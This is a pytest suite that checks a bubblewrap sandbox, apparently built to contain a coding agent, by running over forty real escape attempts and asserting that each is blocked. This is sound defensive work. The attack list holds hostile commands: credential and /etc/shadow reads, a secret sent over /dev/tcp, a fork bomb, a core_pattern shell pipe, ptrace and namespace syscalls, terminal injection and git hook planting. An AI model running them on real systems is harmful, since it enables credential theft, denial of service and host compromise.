"""Attacks on the bubblewrap sandbox, each run for real; every one must be blocked.

Each attack first prints a marker, so a sandbox that fails to start fails the test. After every
attack the test also checks that no planted secret reached the output and that nothing outside
the workspace changed on the host. In CI (the CI variable set) a missing bubblewrap fails.
"""

from __future__ import annotations

import os
import shutil
import socket
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from kestrel.sandbox.base import ExecResult
from kestrel.sandbox.bwrap import BwrapExecutor, SandboxConfig
from kestrel.sandbox.limits import Limits, MiB

SECRET = "kestrel-planted-secret-7f3a9c"
STARTED = "__sandbox_started__"
LIMITS = Limits(memory_bytes=256 * MiB, max_processes=64, file_size_bytes=1 * MiB, open_files=256)
EPERM = "errno 1\n"


def sandbox_required() -> None:
    """Skip without bubblewrap on a workstation; in CI the suite must fail instead."""
    if shutil.which("bwrap") is None:
        if os.environ.get("CI"):
            pytest.fail("bubblewrap is not installed, and CI must run the escape suite")
        pytest.skip("bubblewrap is not installed (apt-get install bubblewrap)")


@dataclass
class Scene:
    """A workspace, a fake home full of secrets, an outside folder, and listening sockets."""

    root: Path
    ws: Path
    home: Path
    outside: Path
    data: Path
    tcp: socket.socket
    tcp6: socket.socket
    udp: socket.socket
    unix: socket.socket
    unix_name: str

    def vars(self) -> dict[str, object]:
        return {
            "ws": self.ws,
            "home": self.home,
            "outside": self.outside,
            "data": self.data,
            "tcp": self.tcp.getsockname()[1],
            "tcp6": self.tcp6.getsockname()[1],
            "udp": self.udp.getsockname()[1],
            "unix": self.unix_name,
            "pid": os.getpid(),
            "ppid": os.getppid(),
        }

    def snapshot(self) -> dict[str, bytes]:
        """Every file outside the workspace, with its content (symlinks as their targets)."""
        found: dict[str, bytes] = {}
        for folder in (self.home, self.outside, self.data):
            for path in sorted(folder.rglob("*")):
                if path.is_symlink():
                    found[str(path)] = os.readlink(path).encode()
                elif path.is_file():
                    found[str(path)] = path.read_bytes()
        return found


def plant(scene: Scene) -> None:
    """Secrets in the fake home and data dir, a file outside, a git repository in the workspace."""
    for name in (
        ".ssh/id_ed25519",
        ".aws/credentials",
        ".config/gcloud/credentials.db",
        ".kube/config",
        ".docker/config.json",
        ".netrc",
        ".git-credentials",
        "notes.txt",
    ):
        (scene.home / name).parent.mkdir(parents=True, exist_ok=True)
        (scene.home / name).write_text(SECRET)
    (scene.data / "sessions.db").write_text(SECRET)
    (scene.outside / "target.txt").write_text("original")
    git = scene.ws / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n\trepositoryformatversion = 0\n")


@pytest.fixture
def scene(monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    sandbox_required()
    # Outside /tmp (private in the sandbox): these paths stay visible, read-only, inside.
    root = Path(tempfile.mkdtemp(prefix="kestrel-escape-", dir="/var/tmp"))
    dirs = [root / name for name in ("ws", "home", "outside", "data")]
    for folder in dirs:
        folder.mkdir()
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix_name = f"kestrel-escape-{os.getpid()}-{root.name}"
    unix.bind("\0" + unix_name)
    tcp, tcp6, udp = _listen(socket.AF_INET, "127.0.0.1"), _listen(socket.AF_INET6, "::1"), None
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    for sock in (unix, tcp, tcp6, udp):
        sock.setblocking(False)
    unix.listen(4)
    made = Scene(root, dirs[0], dirs[1], dirs[2], dirs[3], tcp, tcp6, udp, unix, unix_name)
    plant(made)
    monkeypatch.setenv("HOME", str(made.home))
    for name in ("ANTHROPIC_API_KEY", "OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"):
        monkeypatch.setenv(name, SECRET)
    yield made
    for sock in (unix, tcp, tcp6, udp):
        sock.close()
    shutil.rmtree(root, ignore_errors=True)


def _listen(family: socket.AddressFamily, host: str) -> socket.socket:
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.bind((host, 0))
    sock.listen(4)
    return sock


def executor(scene: Scene) -> BwrapExecutor:
    config = SandboxConfig(limits=LIMITS, masked_paths=(scene.data,))
    return BwrapExecutor(scene.ws, config=config, kill_grace_s=0.5, drain_grace_s=0.3)


Check = Callable[[ExecResult, Scene], None]


@dataclass(frozen=True)
class Attack:
    """A command that tries to break out, and what shows it was stopped."""

    name: str
    command: str
    check: Check
    timeout_s: float = 15.0


def fails(result: ExecResult, scene: Scene) -> None:
    assert result.exit_code != 0, result.output


def says(*texts: str) -> Check:
    def check(result: ExecResult, scene: Scene) -> None:
        for text in texts:
            assert text in result.output, result.output

    return check


def missing(relative: str) -> Check:
    def check(result: ExecResult, scene: Scene) -> None:
        assert not (scene.root / relative).exists(), result.output

    return check


def quiet(attr: str) -> Check:
    """The test's own listener saw nothing: no connection, no datagram."""

    def check(result: ExecResult, scene: Scene) -> None:
        sock: socket.socket = getattr(scene, attr)
        with pytest.raises(BlockingIOError):
            sock.recv(16) if sock.type == socket.SOCK_DGRAM else sock.accept()

    return check


def timed_out(result: ExecResult, scene: Scene) -> None:
    assert result.timed_out and result.duration_ms < 10_000, result


def heartbeat_stops(result: ExecResult, scene: Scene) -> None:
    beat = scene.ws / "hb"
    assert beat.exists(), "the daemon never ran, so the attack proves nothing"
    time.sleep(0.3)
    size = beat.stat().st_size if beat.exists() else 0
    time.sleep(0.6)
    assert (beat.stat().st_size if beat.exists() else 0) == size, "a daemon outlived the command"


def only_sandbox_mounts_writable(result: ExecResult, scene: Scene) -> None:
    """In mountinfo, every read-write mount is the workspace or a fresh kernel filesystem."""
    fresh = {"tmpfs", "proc", "devpts", "mqueue"}
    for line in result.output.splitlines():
        if " - " not in line:
            continue
        fields, fs = line.split(" - ")[0].split(), line.split(" - ")[1].split()
        if "rw" in fields[5].split(",") and fs[0] not in fresh:
            if fs[0] == "devtmpfs" and fields[4].startswith("/dev/"):
                continue  # the few device nodes (null, zero, urandom...) bubblewrap binds
            assert fields[4] in (str(scene.ws), str(scene.ws / ".git"), "/dev/null"), line


def within(path: str, size: int) -> Check:
    def check(result: ExecResult, scene: Scene) -> None:
        assert (scene.ws / path).stat().st_size <= size

    return check


def py(body: str) -> str:
    """A Python snippet as a shell command (a here-document, so quoting stays simple)."""
    return f"python3 - <<'EOF'\n{body}\nEOF"


def libc_call(call: str) -> str:
    """Python calling libc directly, printing `errno N` when the call fails."""
    return py(
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        f"r = {call}\nprint('errno', ctypes.get_errno()) if r == -1 else print('succeeded', r)"
    )


def ioctl(request: int) -> str:
    return py(
        f"import fcntl\ntry:\n    fcntl.ioctl(1, {request:#x}, b'x')\n    print('succeeded')\n"
        "except OSError as e:\n    print('errno', e.errno)"
    )


def connect(family: str, address: str, kind: str = "SOCK_STREAM") -> str:
    return py(
        f"import socket\ns = socket.socket(socket.{family}, socket.{kind})\ns.settimeout(2)\n"
        f"try:\n    s.connect({address}); s.send(b'{SECRET}'); print('connected')\n"
        "except OSError as e:\n    print('blocked', e)"
    )


FORK_COUNT = py(
    "import os, time\nn = 0\nfor _ in range(400):\n    try:\n        pid = os.fork()\n"
    "    except OSError:\n        break\n    if pid == 0:\n        time.sleep(5); os._exit(0)\n"
    "    n += 1\nprint('forked', n)"
)
DAEMON_LOOP = "while :; do echo beat >> {ws}/hb; sleep 0.05; done"
PY_DAEMON = (
    py(
        "import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\n"
        "for _ in range(400):\n    open('hb', 'a').write('beat\\n'); time.sleep(0.05)"
    )
    + "\nsleep 0.3"
)
# Toolchains on PATH that live in /root are shown read-only; nothing else of it.
NOT_TOOLS = "grep -cvxE '[.](pyenv|cargo|rustup|local|nvm|volta|bun|deno|sdkman)|go'"
HOOK = "#!/bin/sh\\necho pwned"
PRE_COMMIT = "ws/.git/hooks/pre-commit"

ATTACKS = [
    # Secrets: the fake home, other homes, system files, the data dir, the parent's environment.
    Attack("ssh key", "cat ~/.ssh/id_ed25519 {home}/.ssh/id_ed25519", fails),
    Attack("aws credentials", "cat {home}/.aws/credentials", fails),
    Attack("gcloud credentials", "cat {home}/.config/gcloud/credentials.db", fails),
    Attack("kube config", "cat {home}/.kube/config", fails),
    Attack("docker config", "cat {home}/.docker/config.json", fails),
    Attack("netrc and git credentials", "cat ~/.netrc ~/.git-credentials", fails),
    Attack("anything in home", "grep -r {secret} ~ {home} 2>&1; ls -A {home}", says(STARTED)),
    Attack("root's home", f"ls -A /root | {NOT_TOOLS}; cat /root/.bash_history", says("\n0\n")),
    Attack("other users' homes", "ls -A /home | wc -l", says("\n0\n")),
    Attack("/etc/shadow", "cat /etc/shadow", fails),
    Attack("/etc/gshadow", "cat /etc/gshadow", fails),
    Attack("kestrel data dir", "cat {data}/sessions.db", fails),
    Attack("api keys in env", "env; echo ${{ANTHROPIC_API_KEY:-unset}}", says("unset")),
    Attack("environ of pid 1", "tr '\\0' '\\n' < /proc/1/environ", says(STARTED)),
    Attack("environ of the agent", "cat /proc/{pid}/environ /proc/{ppid}/environ", says(STARTED)),
    Attack("agent's root", "cat /proc/{pid}/root/{home}/notes.txt", fails),
    Attack("agent not visible", "ls /proc | grep -c '^[0-9]'", lambda r, s: _few_pids(r)),
    # Writes outside the workspace.
    Attack("absolute path", "echo x > {outside}/new.txt", missing("outside/new.txt")),
    Attack("overwrite a file", "echo pwned > {outside}/target.txt", fails),
    Attack("dot-dot", "echo x > ../escape.txt", missing("escape.txt")),
    Attack("symlink out", "ln -s {outside}/target.txt l && echo pwned > l", fails),
    Attack("symlinked dir", "ln -s {outside} d && echo x > d/new.txt", missing("outside/new.txt")),
    Attack("hard link", "ln {outside}/target.txt h && echo pwned > h", fails),
    Attack("host /tmp", "echo x > /tmp/kestrel-escape-probe", lambda r, s: _no_host_tmp()),
    Attack("system files", "echo pwned >> /etc/hosts", fails),
    Attack("/usr", "touch /usr/bin/kestrel-pwned", fails),
    Attack("home dotfile", "echo pwned > {home}/.bashrc", missing("home/.bashrc")),
    # /proc and /sys.
    Attack("core_pattern", "echo '|/bin/sh' > /proc/sys/kernel/core_pattern", fails),
    Attack("drop caches", "echo 1 > /proc/sys/vm/drop_caches", fails),
    Attack("writable mounts", "cat /proc/self/mountinfo", only_sandbox_mounts_writable),
    Attack("leave the cgroup", "echo $$ > /sys/fs/cgroup/pids/cgroup.procs", fails),
    Attack("raw disk", "head -c 1 /dev/sda /dev/vda /dev/nvme0n1 /dev/mem", fails),
    # The agent process and tracing.
    Attack("kill the agent", "kill -9 {pid} {ppid}", fails),
    Attack("kill everything", "kill -9 -1; sleep 1", says(STARTED)),
    Attack("ptrace attach", libc_call("libc.ptrace(16, 1, 0, 0)"), says(EPERM)),
    Attack("ptrace traceme", libc_call("libc.ptrace(0, 0, 0, 0)"), says(EPERM)),
    Attack("process_vm_readv", libc_call("libc.syscall(310, 1, 0, 0, 0, 0, 0)"), says(EPERM)),
    # Resources.
    Attack("fork bomb", ":(){{ :|:& }};:; sleep 2; echo survived", says(STARTED), 20),
    Attack("fork count", FORK_COUNT, lambda r, s: _forks_bounded(r), 20),
    Attack("memory bomb", py("x = bytearray(1 << 30); print('allocated')"), fails, 20),
    Attack("memory creep", py("x = []\nwhile True: x.append(bytearray(1 << 24))"), fails, 30),
    Attack("disk fill", "head -c 4000000 /dev/zero > big", within("big", 1 * MiB)),
    Attack("sparse file", "dd if=/dev/zero of=sp bs=1 count=1 seek=50M", fails),
    Attack("infinite loop", "while :; do :; done", timed_out, 2),
    Attack("ignores SIGTERM", "trap '' TERM; while :; do :; done", timed_out, 2),
    # Daemons that try to outlive the command.
    Attack("nohup", f"nohup sh -c '{DAEMON_LOOP}' >/dev/null 2>&1 & sleep 0.3", heartbeat_stops),
    Attack("setsid", f"setsid sh -c '{DAEMON_LOOP}' >/dev/null 2>&1 & sleep 0.3", heartbeat_stops),
    Attack("double fork", f"( ( {DAEMON_LOOP} ) & ) >/dev/null 2>&1; sleep 0.3", heartbeat_stops),
    Attack("python daemon", PY_DAEMON, heartbeat_stops),
    # Network.
    Attack("tcp via bash", "echo {secret} > /dev/tcp/127.0.0.1/{tcp}", quiet("tcp")),
    Attack("tcp", connect("AF_INET", "('127.0.0.1', {tcp})"), quiet("tcp")),
    Attack("udp", connect("AF_INET", "('127.0.0.1', {udp})", "SOCK_DGRAM"), quiet("udp")),
    Attack("tcp over ipv6", connect("AF_INET6", "('::1', {tcp6})"), quiet("tcp6")),
    Attack("abstract unix socket", connect("AF_UNIX", "'\\0{unix}'"), says("blocked")),
    Attack("route out (dns)", connect("AF_INET", "('192.0.2.1', 53)", "SOCK_DGRAM"), says("bl")),
    Attack("interfaces", "cut -d: -f1 /proc/net/dev | tail -n +3 | tr -d ' '", says("\nlo\n")),
    # The repository's hooks and config run on the host.
    Attack("pre-commit hook", f"printf '{HOOK}' > .git/hooks/pre-commit", missing(PRE_COMMIT)),
    Attack("git config", "echo '[core] hooksPath = /x' >> .git/config", fails),
    Attack("replace .git", "mv .git g && mkdir .git && echo x > .git/config", fails),
    # Terminal injection, mounts and namespaces.
    Attack("TIOCSTI", ioctl(0x5412), says(EPERM)),
    Attack("TIOCLINUX", ioctl(0x541C), says(EPERM)),
    Attack("mount tmpfs", "mkdir m && mount -t tmpfs none m", fails),
    Attack("remount rw", "mount -o remount,rw / && touch /kestrel-pwned", fails),
    Attack("unshare", "unshare -Ur true", fails),
    Attack("unshare syscall", libc_call("libc.unshare(0x10000000)"), says(EPERM)),
    Attack("setns", libc_call("libc.setns(0, 0)"), says(EPERM)),
    Attack("io_uring", libc_call("libc.syscall(425, 8, 0)"), says(EPERM)),
    Attack("bpf", libc_call("libc.syscall(321, 0, 0, 0)"), says(EPERM)),
    Attack("keyctl", libc_call("libc.syscall(250, 0, 0, 0, 0, 0)"), says(EPERM)),
    Attack("clone a user ns", libc_call("libc.syscall(56, 0x10000011, 0, 0, 0, 0)"), says(EPERM)),
]  # fmt: skip


def _few_pids(result: ExecResult) -> None:
    # A fresh PID namespace shows only the sandbox's own few processes.
    assert int(result.output.split()[-1]) < 10, result.output


def _no_host_tmp() -> None:
    assert not Path("/tmp/kestrel-escape-probe").exists()


def _forks_bounded(result: ExecResult) -> None:
    assert int(result.output.split()[-1]) < LIMITS.max_processes, result.output


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
async def test_attack_is_blocked(attack: Attack, scene: Scene) -> None:
    before = scene.snapshot()
    command = attack.command.format(secret=SECRET, **scene.vars())
    result = await executor(scene).run(
        f"echo {STARTED}; {command}", cwd=scene.ws, timeout_s=attack.timeout_s
    )
    assert STARTED in result.output, f"the sandbox did not start: {result.output}"
    assert SECRET not in result.output
    attack.check(result, scene)
    assert scene.snapshot() == before, "something outside the workspace changed"


def test_there_are_at_least_forty_attacks() -> None:
    assert len(ATTACKS) >= 40 and len({a.name for a in ATTACKS}) == len(ATTACKS)
